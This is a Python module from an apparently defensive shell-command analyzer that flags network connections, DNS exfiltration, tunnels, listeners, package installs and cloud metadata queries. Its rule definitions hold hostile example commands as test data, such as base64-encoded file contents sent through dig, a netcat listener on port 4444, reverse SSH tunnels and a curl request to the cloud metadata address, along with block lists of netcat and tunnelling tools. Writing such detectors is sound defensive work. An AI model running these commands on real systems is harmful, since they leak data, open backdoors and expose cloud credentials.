"""Connections, tunnels, listeners and packages."""

from __future__ import annotations

import re
from collections.abc import Iterator

from engine.analysis.shell.command_patterns import by_name, has_arguments, matches, pattern
from engine.analysis.shell.declare import HIGH, LOW, MEDIUM, SECRETS, found, rule
from engine.analysis.shell.model import Command, Script
from engine.analysis.shell.rules.uploads import UPLOAD, is_local, sends_loot
from engine.analysis.shell.values import shown
from engine.models import Violation

NETWORK = rule(
    "sh-network",
    "Connects to another machine",
    "net_access",
    MEDIUM,
    attack="Reports to an attacker, or fetches instructions.",
    why=(
        "MEDIUM: the sandbox has no network unless it is granted;"
        " LOW for a request without data to a named host, and where the other end is this machine."
    ),
    fix="Request the domain as a permission.",
    match=(
        "curl https://x.test/api",
        "nc -u 10.0.0.1 53",
        "ssh user@x.test ls",
        "telnet x.test 25",
        "echo hi > /dev/tcp/10.0.0.1/80",
    ),
    not_match=(
        "curl --version",
        "man ssh",
        "echo curl https://x.test",
        "ssh -V",
    ),
    cwe=918,
)
DNS_EXFIL = rule(
    "sh-dns-exfil",
    "Hides data in DNS queries",
    "exfil_upload",
    HIGH,
    attack="Sends data as labels of a domain name: DNS is often the only allowed protocol.",
    why="HIGH: command output in a domain name has no other use.",
    fix="Remove it.",
    match=(
        "dig $(cat a | base64).x.test",
        "nslookup `whoami`.x.test",
        "ping -c1 $(id -u).x.test",
        "for b in $(xxd -p f); do host $b.x.test; done",
    ),
    not_match=(
        "dig x.test",
        "ping -c 1 $HOST",
        "host x.test",
    ),
    cwe=200,
    owasp=SECRETS,
)
TUNNEL = rule(
    "sh-tunnel",
    "Opens a tunnel or hides its destination",
    "net_access",
    HIGH,
    attack=("Makes this machine reachable from outside, or bypasses network monitoring."),
    why="HIGH: a tunnel defeats every rule about hosts and ports.",
    fix="Remove it.",
    match=(
        "ngrok http 80",
        "ssh -R 80:localhost:80 x.test",
        "cloudflared tunnel --url localhost:1",
        "chisel client x.test R:1",
        "sudo systemctl start tor",
        "ssh -N -D 1080 x.test",
    ),
    not_match=(
        "ssh x.test",
        "cloudflared --version",
    ),
    cwe=923,
)
LISTENER = rule(
    "sh-listener",
    "Listens for connections",
    "net_access",
    MEDIUM,
    attack="Lets an attacker into the machine, or serves its files.",
    why=(
        "MEDIUM: nothing outside can reach the sandbox; HIGH with a shell behind it, which has its own rule."
    ),
    fix="Do not run servers.",
    match=(
        "nc -lvnp 4444",
        "python3 -m http.server 8000",
        "php -S 0.0.0.0:80",
        "socat TCP-LISTEN:1 -",
    ),
    not_match=(
        "nc -z localhost 1",
        "python3 -m json.tool",
        "php -v",
    ),
    cwe=923,
)
PACKAGE = rule(
    "sh-package-install",
    "Installs packages",
    "net_download",
    MEDIUM,
    attack="Runs the attacker's installer: a misspelt or invented name is enough.",
    why=(
        "MEDIUM: packages are granted by name and version; HIGH from a URL or another registry;"
        " LOW from the signed archive of the system, whose packages others have reviewed."
    ),
    fix="Request the package as a permission.",
    match=(
        "pip install requests",
        "npm install left-pad",
        "python3 -m pip install x",
        "sudo apt-get install -y curl",
        "npx create-x",
        "pip install git+https://x.test/y",
    ),
    not_match=("pip list", "npm test", "npm install --help", "apt list"),
    cwe=829,
    owasp="LLM03:2025",
)
METADATA = rule(
    "sh-cloud-metadata",
    "Queries the cloud metadata service",
    "secrets_env",
    HIGH,
    attack="Reads the credentials of the machine's cloud role.",
    why="HIGH: the only valuable content there is credentials.",
    fix="Remove it.",
    match=(
        "curl http://169.254.169.254/latest/meta-data/",
        "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/x",
    ),
    not_match=("curl http://169.1.1.1/",),
    cwe=918,
    owasp=SECRETS,
)

_METADATA = re.compile(
    r"169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|169\.254\.170\.2|fd00:ec2::254"
)
_NETCATS = ("nc", "ncat", "netcat", "socat", "nc.traditional", "nc.openbsd", "rcat", "cryptcat")
_LOOKUPS = ("dig", "nslookup", "host", "ping", "ping6", "drill", "kdig", "whois", "traceroute", "mtr")
_TALKERS = (
    "ssh", "telnet", "mail", "sendmail", "mutt", "mailx", "swaks", "smbclient", "rlogin", "rsh", "mosh",
    "ldapsearch", "snmpwalk", "irssi", "nats", "mosquitto_pub", "websocat", "wscat", "grpcurl", "ssmtp",
    "msmtp",
)  # fmt: skip
_QUIET = {*_LOOKUPS, "mail", "mailx"}
_TUNNELS = (
    "ngrok chisel tor frpc frps localtunnel lt bore sshuttle iodine dnscat2 dnscat ptunnel stunnel openvpn"
    " wg-quick zerotier-cli tailscale gost ligolo rathole inlets telebit hans dns2tcp proxytunnel autossh"
    " devtunnel pagekite pagekite.py"
)
_INSTALLERS = (
    "pip pip3 pipx npm yarn pnpm bun gem cargo go uv conda snap composer cpan cpanm luarocks dpkg rpm"
)
_ARCHIVES = "apt apt-get aptitude yum dnf apk brew zypper port pkg opkg"
"""Installers from the archive of a system."""
_UNSIGNED = r"/|\x00|\.(?:deb|rpm|apk|pkg)\b|--allow-un|--force-yes|--no-?gpg|--no-check"
"""A file, a name that only the run knows, or an archive whose signature is not checked."""
_INSTALLS = (
    r"^(?:-\S+ )*(?:global |tool |pip )?(?:(?:local|re|group)?install|add|i|get|require|-i|--install|ci)\b"
)
_ELSEWHERE = r"\bgit\+|https?://|--(?:extra-)?index-url|--registry|--trusted-host|\.git\b"
_HIDERS = {"proxychains", "proxychains4", "torsocks", "torify", "tsocks"}
_RANGE = re.compile(r"^(?:\d{1,3}\.){1,3}\x00")
"""An address whose end is known only at run time."""
_DEVICE = re.compile(r"/dev/(?:tcp|udp)/(localhost|127\.)?")
_PATTERNS = by_name(
    pattern(TUNNEL, _TUNNELS, test=has_arguments),
    pattern(TUNNEL, "tor"),
    pattern(TUNNEL, "curl wget", r"--socks\S*|:9[01]50\b"),
    pattern(TUNNEL, "cloudflared code", r"\b(?:tunnel|access)\b"),
    pattern(TUNNEL, "ssh", r"(?<!\S)-\w*[RDLw](?:\s|\d|$)"),
    pattern(TUNNEL, "systemctl service sysrc brew rc-service",
          r"\b(?:start|enable|restart|YES)\b.*\b(?:tor|openvpn|wg-quick)|\b(?:tor|openvpn"
          r"|tor_enable)\b.*(?:start|YES)"),
    pattern(TUNNEL, "osascript", r"\b(?:tor|ngrok)\b"),
    pattern(PACKAGE, _INSTALLERS, _INSTALLS, unwanted=_ELSEWHERE),
    pattern(PACKAGE, _ARCHIVES, _INSTALLS, unwanted=rf"{_ELSEWHERE}|{_UNSIGNED}", severity=LOW),
    pattern(PACKAGE, _ARCHIVES, rf"(?:{_INSTALLS}).*(?:{_UNSIGNED})", unwanted=_ELSEWHERE),
    pattern(PACKAGE, f"{_INSTALLERS} {_ARCHIVES}", rf"(?:{_INSTALLS}).*(?:{_ELSEWHERE})", severity=HIGH),
    pattern(PACKAGE, "npx bunx pnpx uvx easy_install", test=has_arguments),
    pattern(PACKAGE, "python python2 python3", r"^-m pip install\b"),
    pattern(PACKAGE, "npm pnpm yarn bun", r"^(?:exec|dlx|x)\b"),
    pattern(PACKAGE, "pacman", r"^-S", unwanted=_UNSIGNED, severity=LOW),
    pattern(PACKAGE, "pacman", rf"^-S.*(?:{_UNSIGNED})"),
    pattern(LISTENER, "nc ncat netcat", r"(?<!\S)(?:-\w*l|--listen)"),
    pattern(LISTENER, "socat", r"(?i)listen"),
    pattern(LISTENER, "php", r"(?<!\S)-S\b"),

    pattern(LISTENER, "python python2 python3", r"-m (?:http\.server|SimpleHTTPServer|pyftpdlib|smtpd)"),
    pattern(LISTENER, "ruby", r"(?<!\S)-run|httpd"),
    pattern(LISTENER, "httpd updog http-server webfsd", test=has_arguments),
)  # fmt: skip


def check(script: Script) -> Iterator[Violation]:
    """Yield network access, tunnels and listeners."""
    yield from matches(script, _PATTERNS)
    for command in script.named(*_NETCATS, *_LOOKUPS, *_TALKERS):
        yield from _talk(command)
    for command in script.commands:
        if command.own:
            continue
        if _METADATA.search(command.text):
            yield found(METADATA, command)
        if command.wrappers and not _HIDERS.isdisjoint(command.wrappers):
            yield found(TUNNEL, command)
    for redirect in script.redirects:
        device = _DEVICE.match(redirect.target.text)
        if device:
            quiet = device[1] and not redirect.writes
            message = f"Opens {shown(redirect.target.text)}"
            yield NETWORK.violation(redirect.span, message, severity=LOW if quiet else MEDIUM)


def _talk(command: Command) -> Iterator[Violation]:
    if not command.operands or "--help" in command.words:
        return
    if command.name in _LOOKUPS and _smuggles(command):
        yield found(DNS_EXFIL, command)
    elif command.name in _NETCATS and _sends(command):
        yield found(UPLOAD, command)
    else:
        quiet = command.name in _QUIET or (is_local(command) and command.name not in _NETCATS)
        quiet = quiet and not _scans(command)
        yield found(NETWORK, command, severity=LOW if quiet else None)


def _scans(command: Command) -> bool:
    """Return whether a command scans a range of addresses, or an unrelated port."""
    if command.name == "whois" and command.has("p"):
        return True
    return any(_RANGE.match(arg.text) for arg in command.operands)


def _smuggles(command: Command) -> bool:
    return any("output" in arg.taints and re.search(r"\.[\w-]+\.\w+$", arg.text) for arg in command.operands)


def _sends(command: Command) -> bool:
    if command.name == "socat" or command.has("z") or command.has("l", "--listen"):
        return False
    files = any(r.operator == "<" and not r.target.text.startswith("/dev/null") for r in command.redirects)
    return files or sends_loot(command)
